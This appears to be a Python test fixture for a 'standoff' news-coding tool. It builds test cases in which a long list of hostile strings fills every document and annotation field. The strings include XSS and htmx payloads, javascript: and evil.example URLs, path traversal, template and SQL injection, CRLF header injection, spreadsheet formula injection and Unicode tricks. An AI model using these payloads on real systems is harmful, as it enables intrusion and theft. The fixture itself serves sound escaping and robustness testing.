"""Strings that try to run, to break a page, or to steer a reader; and a case that has each of them in every field.

Whatever runs sets ``window.canary``, or opens a dialog.
"""

from standoff.record import open_case
from standoff.schema import (
    Act,
    Block,
    BlockKind,
    Commitment,
    CommitmentKind,
    Decision,
    Document,
    Event,
    Figure,
    IssueKey,
    Mode,
    Party,
    Plover,
    Polarity,
    Statement,
    Status,
    Verb,
)

RUN = "window.canary=1"
_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onfocusin",
    "onanimationstart",
    "onanimationend",
    "ontoggle",
    "onpointerenter",
    "onbeforetoggle",
    "onscrollend",
    "onwheel",
    "ontransitionend",
    "oncontentvisibilityautostatechange",
    "onbegin",
    "onend",
    "onhashchange",
]
_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    f"<script\0>{RUN}</script>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<script>{RUN}//",
    "<script src=data:text/javascript,window.canary=1></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"</style><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp>",
    f"<template><script>{RUN}</script></template>",
    f"</article></section></main></body></html><script>{RUN}</script>",
    f"<plaintext><script>{RUN}</script>",
    f"</q></blockquote></td></tr></table><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
]
_ELEMENTS = [
    *(f"<img src=x {event}={RUN}>" for event in _EVENTS[:6]),
    *(f"<svg {event}={RUN}>" for event in _EVENTS[:8]),
    *(f"<details open {event}={RUN}><summary>x</summary>" for event in ("ontoggle", "onbeforetoggle", "onclick")),
    *(f"<input autofocus {event}={RUN}>" for event in ("onfocus", "onfocusin", "onblur")),
    f"<body onload={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    "<iframe srcdoc='<script>parent.canary=1</script>'>",
    "<iframe src=javascript:parent.canary=1>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<isindex action=javascript:{RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={RUN}>",
    f"<dialog open oncancel={RUN}>x",
    "<input name=csrf value=stolen>",
    "<input form=f name=body>",
    "<img name=getElementById>",
    "<form id=htmx>",
    "<div hx-get=//evil.example hx-trigger=load>",
    f"<div hx-on:htmx:load={RUN}>",
    f"<div hx-on::load={RUN}>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-get=/ hx-trigger=load>",
    f"<article-view onclick={RUN}>",
    "<add-progress data-events=/x>",
]
_ATTRIBUTES = [
    *(f'" {event}="{RUN}" x="' for event in _EVENTS),
    *(f"' {event}='{RUN}' x='" for event in _EVENTS[:6]),
    f'" autofocus onfocus={RUN} "',
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`onload={RUN}`",
    f'" style="animation:x" onanimationstart="{RUN}',
    f'"/><script>{RUN}</script>',
    f'\\" onload={RUN} \\"',
    '" "',
    "'\"`",
    f'" href="javascript:{RUN}',
    '" class="card is-rejected',
    '" id="main',
    '" data-i="0',
    "=",
    "<",
    ">",
    "&",
    '"',
    "'",
    "`",
]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://x%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/",
    "/\\evil.example/",
    "https://evil.example/?<script>",
    "file:///etc/passwd",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%2e%2e/",
    "a/b/c",
    "a?b#c",
    "?q=1&csrf=x",
    "#main",
    ".",
    "..",
    "/",
    "\\\\server\\x",
    f"blob:{RUN}",
    "about:blank",
    "mailto:x@evil.example?bcc=y",
    "%E0%A4%A",
    "%ff%fe",
]
_TEMPLATES = [
    "{{7*7}}",
    "{% raw %}",
    "{{ csrf }}",
    "{{ self.__init__.__globals__ }}",
    "{# hidden",
    "{% include 'base.html' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('window.canary=1')()}}",
    "%(csrf)s",
    "%s%s%s%n",
    "{0.__class__}",
    "{csrf}",
    "[[7*7]]",
    "__import__('os')",
    "$(id)",
    "`id`",
    "; DROP TABLE item;--",
    "' OR 1=1 --",
    '" OR ""="',
    "x' UNION SELECT 1--",
    "NEAR(",
    "a* OR *",
    '"unclosed',
    "NOT",
    "col:x",
    "^x",
    "(((",
]
_ENTITIES = [
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x onerror=window.canary=1&#x3e;",
    "&lt;img src=x onerror=window.canary=1&gt;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&shy;&zwj;",
    "&#0;",
    "&#xD800;",
    "&notanentity;",
    "&#999999999;",
    "&quot; onload=window.canary=1 &quot;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-window.canary=1+ADw-/script+AD4-",
    "¼script¾",
    "＜script＞",
    "\u2028window.canary=1\u2029",
    "\ufeff<script>",
    "\u212ascript",
    "<ſcript>",
    "<ıframe>",
]
_SIGNS = [
    "\u202eevil\u202c",
    "\u2066\u2067\u2068x",
    "\u202d\u202e" * 50,
    "abc\u200fdef\u200e",
    "\u061cx",
    "\u2069" * 20,
    "\0",
    "a\0b",
    "\x07\x08\x1b[31mred\x1b[0m",
    "\x7f\x80\x9f",
    "\r\nSet-Cookie: x=1",
    "\n\n\nlines\n\n",
    "\t\t\t",
    "\x0b\x0c\x85",
    "\ud800",
    "\udfff\ud800",
    "x\udcffy",
    "\ufffe\uffff",
    "\ufdd0mark\ufdd1",
    "\U0010ffff",
    "\ufffd\ufffd",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a\u200bb",
    "\u00ad" * 30,
    "\u034f",
    "\u115f\u1160\u3164",
    "\U000e0001\U000e0041",
    "e" + "\u0301" * 400,
    "Z" + "\u0335\u0489\u20dd" * 200,
    "\u0e47" * 300,
    "👩‍👩‍👧‍👦" * 40,
    "🇺🇦🇷🇺" * 40,
    "\ufe0f" * 100,
    "﷽" * 60,
    "𒐫" * 60,
    "W" * 3000,
    "long-" * 900,
    " ",
    "\u3000",
    "\u2003x\u2003",
    "قالت\u202e إيران",
    "ﬀ" * 20,
]
_STYLES = [
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=position:fixed;inset:0>",
    "</style><style>body{visibility:hidden}",
    "*{display:none!important}",
    "expression(window.canary=1)",
    "url(javascript:window.canary=1)",
    "<div style='background:url(//evil.example/x)'>",
    "<font size=999>",
    "<h1>",
    "<table><tr><td>",
    "</div></div></div></main>",
    "<!--",
    "-->",
    "<![CDATA[",
    "<?xml?>",
    "<!doctype html>",
    "<select><option>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<frameset>",
    "<noembed>",
    "<br>" * 200,
    "<b>" * 500,
    "</p>" * 300,
    "<a href=/logout>you are logged out</a>",
]
_TABLES = [
    "=1+1",
    '=HYPERLINK("//evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|'x'!A1",
    ";=1",
    ",=1",
]

HOSTILE = list(
    dict.fromkeys(
        [*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_ENTITIES, *_SIGNS, *_STYLES, *_TABLES]
    )
)


def fill(path, strings):
    """A new case at ``path`` with a document for each string, which stands in every field of it and of its items."""
    with open_case(path, create=True) as case:
        for number, string in enumerate(strings):
            document, items = _coded(string, number)
            case.add(document, items, fingerprint="x")
            if number % 4 == 0:
                by = string if string.strip() else "x"
                verb = (Verb.ACCEPT, Verb.UNSURE, Verb.REJECT)[number // 4 % 3]
                case.decide(Decision(verb=verb, subjects=(case.key(items[number % 3].id),), by=by, why=string))
            if number % 10 == 0 and string.strip():
                names = (IssueKey(string), IssueKey(f"issue {number}"))
                case.decide(Decision(verb=Verb.RENAME, subjects=names, by="x", why=string))
            if number % 10 == 5:
                problem = _Problem(string, string, string, string)
                case.add_problem(problem)
        case.compare()


class _Problem:
    def __init__(self, source, code, message, hint):
        self.source, self.code, self.message, self.hint = source, code, message, hint


def _coded(string, number):
    name = f"{string} {number}"
    parts = [
        ("title", f"Title {string} end"),
        ("byline", f"By {string} end"),
        ("who", f"Who {string} end"),
        ("said", f"said {string} that it would not yield."),
        ("do", f"close {string} the harbour"),
        ("if", f"if {string} ships come"),
        ("met", f"They met {string} in Oslo."),
        ("number", f"Some 4,000 {string} men."),
    ]
    text, places = "", {}
    for key, words in parts:
        places[key] = (len(text), len(text) + len(words))
        text += words + "\n\n"
    document = Document(name=name, text=text, source=string or "x")
    spans = {key: document.span(*place) for key, place in places.items()}
    kinds = {"title": BlockKind.TITLE, "byline": BlockKind.BYLINE}
    document = Document(
        name=name,
        text=text,
        source=string,
        url=string,
        title=spans["title"],
        byline=spans["byline"],
        published=f"2031-01-{number % 28 + 1:02}",
        publisher=string,
        agency=string,
        notes=(string,),
        blocks=tuple(Block(kinds.get(key, BlockKind.BODY), *place) for key, place in places.items()),
    )
    code = string.encode("utf-8", "replace").decode()  # codes are of a vocabulary, and kept as they are
    party = Party(name=name, side=None, span=spans["who"], reason=string, country=code, sector=code)
    other = Party(name=f"Other {name}", side="NOR", span=None, reason=string)
    head = {"doc": name, "coder": string, "score": 0.5}
    items = [
        Statement(
            **head,
            source=party,
            content=(spans["said"],),
            mode=Mode.INDIRECT,
            act=Act.DEMAND,
            addressee=string,
            via=other,
            cue=spans["who"],
            cue_lemma=string,
        ),
        Commitment(
            **head,
            by=party,
            kind=CommitmentKind.THREAT,
            action=spans["do"],
            condition=spans["if"],
            polarity=Polarity.IF,
            toward=(other,),
        ),
        Event(
            **head,
            plover=Plover.CONSULT,
            mode=code,
            status=Status.SCHEDULED,
            sources=(party,),
            targets=(other,),
            place=string,
            when=f"2031-02-{number % 28 + 1:02}",
            duration=string,
            evidence=spans["met"],
        ),
        Figure(**head, value=4000.0, unit=string, of=string, side=string, evidence=spans["number"]),
    ]
    from standoff.schema import identify

    return document, [identify(item, document.id) for item in items]
